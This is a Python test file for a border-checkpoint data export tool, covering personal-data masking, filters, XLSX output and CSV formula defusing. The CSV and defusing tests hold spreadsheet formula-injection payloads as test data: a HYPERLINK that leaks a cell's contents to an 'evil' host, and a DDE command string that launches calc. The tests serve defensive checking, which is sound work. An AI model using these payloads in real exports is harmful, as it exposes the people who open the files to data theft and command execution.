from __future__ import annotations

import io
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from checkpoint.crossing import PersonalData
from checkpoint.export._filters import CrossingFilter, id_number_hash
from checkpoint.export._masking import mask, mask_id_number, mask_name
from checkpoint.export._writers import defuse
from checkpoint.export._xlsx import MAX_ROWS, XlsxWriter, column_letter
from tests.export.crossing_rows import HMAC_KEY, PEOPLE, T0, row


def test_mask_name_keeps_initials_with_diacritics() -> None:
    assert mask_name("Nguyễn Văn An") == "N.V.A."
    assert mask_name("Đặng  thị   Ánh") == "Đ.T.Á."
    assert mask_name("") is None and mask_name(None) is None and mask_name("   ") is None


def test_mask_id_number_keeps_last_four() -> None:
    assert mask_id_number("001085012345") == "********2345"
    assert mask_id_number("12345") == "*2345"
    assert mask_id_number("123") == "**3"  # never the whole of a short number
    assert mask_id_number(None) is None


def test_mask_drops_every_other_personal_field() -> None:
    m = mask(PEOPLE[0])
    assert m == PersonalData(name="N.V.A.", id_number="********2345")


def test_filter_fields_combine_with_and_values_with_or() -> None:
    c = row(2, personal=PEOPLE[0])  # accepted, in, officer CB-01, resident
    assert (c.verdict, c.direction, c.officer_id, c.category) == ("accept", "in", "CB-01", "resident")
    at = T0
    assert CrossingFilter().matches(c, at)
    assert CrossingFilter(directions=frozenset({"in"}), officers=frozenset({"CB-01"})).matches(c, at)
    assert not CrossingFilter(directions=frozenset({"in"}), officers=frozenset({"CB-02"})).matches(c, at)
    assert CrossingFilter(verdicts=frozenset({"reject", "accept"})).matches(c, at)
    assert not CrossingFilter(reasons=frozenset({"EXPIRED"})).matches(c, at)
    assert CrossingFilter(reasons=frozenset({"EXPIRED"})).matches(row(1), at)
    assert CrossingFilter(categories=frozenset({"resident", "driver"})).matches(c, at)
    assert not CrossingFilter(categories=frozenset({"driver"})).matches(c, at)


def test_filter_check_verdict_matches_accepted_crossings_shown_as_check() -> None:
    dup = row(14)  # seq % 7 == 0: duplicate, accepted, CHECK
    assert dup.display == "CHECK"
    f = CrossingFilter(verdicts=frozenset({"check"}))
    assert f.matches(dup, T0) and not f.matches(row(2), T0)


def test_filter_time_range_is_half_open() -> None:
    f = CrossingFilter(since=T0, until=T0 + timedelta(hours=1))
    assert f.in_range(T0) and f.in_range(T0 + timedelta(minutes=59)) and not f.in_range(T0 + timedelta(hours=1))
    assert not f.in_range(T0 - timedelta(seconds=1))


def test_id_number_filter_uses_the_keyed_hash_and_never_records_the_number() -> None:
    c = row(3, personal=PEOPLE[1])
    h = id_number_hash(HMAC_KEY, "079190000123")
    f = CrossingFilter(id_number_hashes=frozenset({h}))
    assert f.matches(c, T0) and not f.matches(row(4, personal=PEOPLE[0]), T0)
    assert "079190000123" not in str(f.describe()) and h in str(f.describe())


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x\")", "+1", "-2+3", "@SUM(A1)", "\tcmd", "\rx"])
def test_spreadsheet_formulas_are_defused(value: str) -> None:
    assert defuse(value) == "'" + value
    assert defuse("Nguyễn") == "Nguyễn"


def test_column_letters() -> None:
    assert [column_letter(i) for i in (0, 25, 26, 51, 52, 701, 702)] == ["A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]


def test_xlsx_types_frozen_header_and_illegal_characters() -> None:
    buf = io.BytesIO()
    w = XlsxWriter(buf, sheet_title="Lượt qua", headers=["Số", "Thời gian", "Tên"], widths=[5, 20, 20])
    w.write_row([1, datetime(2021, 7, 24, 7, 30, 15), " Nguyễn <Văn> & An\x01 "])
    w.write_row([2, None, "=1+1"])
    w.close()
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    ws = wb["Lượt qua"]
    assert ws.freeze_panes == "A2"
    assert ws["A1"].value == "Số" and ws["A1"].font.b
    assert ws["A2"].value == 1
    assert ws["B2"].value == datetime(2021, 7, 24, 7, 30, 15) and ws["B2"].is_date
    assert ws["C2"].value == " Nguyễn <Văn> & An\\x01 "  # a control character shown, not dropped (display.py)
    assert ws["B3"].value is None and ws["C3"].value == "=1+1" and ws["C3"].data_type == "s"  # text, not formula
    assert ws.auto_filter.ref == "A1:C3"


def test_xlsx_starts_a_new_sheet_at_excels_row_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("checkpoint.export._xlsx.MAX_ROWS", 3)
    buf = io.BytesIO()
    w = XlsxWriter(buf, sheet_title="Crossings", headers=["n"], widths=[5])
    for i in range(5):
        w.write_row([i])
    w.close()
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    assert wb.sheetnames == ["Crossings", "Crossings (2)", "Crossings (3)"]
    assert [[c.value for c in row] for row in wb["Crossings (2)"].iter_rows()] == [["n"], [2], [3]]
    assert MAX_ROWS == 1_048_576
    assert zipfile.ZipFile(io.BytesIO(buf.getvalue())).testzip() is None


def test_local_time_text_matches_the_slow_conversion_for_any_zone() -> None:
    from zoneinfo import ZoneInfo

    from checkpoint.export._columns import PersonalMode, RowMaker
    from checkpoint.isotime import parse_instant as instant

    texts = ["2021-07-24T16:59:59.999999Z", "2021-07-24T17:00:00Z", "2021-03-28T00:59:59.000000Z",
             "2021-03-28T01:00:00.000000Z", "2021-10-31T00:30:00+00:00", "2021-07-24T07:15:30.5+07:00"]
    for zone in ("Asia/Ho_Chi_Minh", "Asia/Kolkata", "Europe/Paris", "UTC"):
        tz = ZoneInfo(zone)
        maker = RowMaker(PersonalMode.SEALED, "vi", tz, time_text=True)
        for t in texts * 2:  # the second pass comes from the per-hour cache
            at = instant(t)
            assert maker.local_text(t, at) == at.astimezone(tz).strftime("%Y-%m-%d %H:%M:%S"), (zone, t)


def test_csv_export_defuses_formulas_typed_by_people(tmp_path: Path) -> None:
    import csv
    from dataclasses import replace
    from datetime import timezone

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from checkpoint import sealing
    from checkpoint.clock import FixedClock
    from checkpoint.export import ExportRequest, Format, export
    from checkpoint.export._source import rows_of
    from tests.export.crossing_rows import crossing

    sup = sealing.generate()
    evil = PersonalData('=HYPERLINK("http://evil/?"&A1,"bấm")', "001085012345", origin="+cmd|' /C calc'!A0")
    c = replace(crossing(1, personal=evil, seal_to=sup.public_key()), officer_id="@SUM(1+1)", category="-2+3")
    out = tmp_path / "x.csv"
    export(rows_of([c]), ExportRequest(out, Format.CSV, timezone(timedelta(hours=7)), "UTC+07:00"), station_id="S",
           station_key=Ed25519PrivateKey.generate(), clock=FixedClock(T0), supervisor_key=sup,
           audit=lambda a, d: None)
    with open(out, encoding="utf-8-sig", newline="") as f:
        line = list(csv.reader(f))[1]
    assert line[5] == "'@SUM(1+1)" and line[8] == "'-2+3"
    assert line[12] == "'" + (evil.name or "") and line[17] == "'" + (evil.origin or "")


def test_progress_bar_draws_on_a_terminal_only() -> None:
    import io

    from checkpoint.cli.progress import ProgressBar

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    tty = Tty()
    bar = ProgressBar("export x.csv", tty)
    bar.status("checking the log…")
    bar(50, 100)
    bar(100, 100)
    bar.done()
    out = tty.getvalue()
    assert "checking the log…" in out and " 50%" in out and "100%" in out and out.endswith("\n")
    plain = io.StringIO()
    quiet = ProgressBar("export x.csv", plain)
    quiet(50, 100)
    quiet.done()
    assert plain.getvalue() == ""
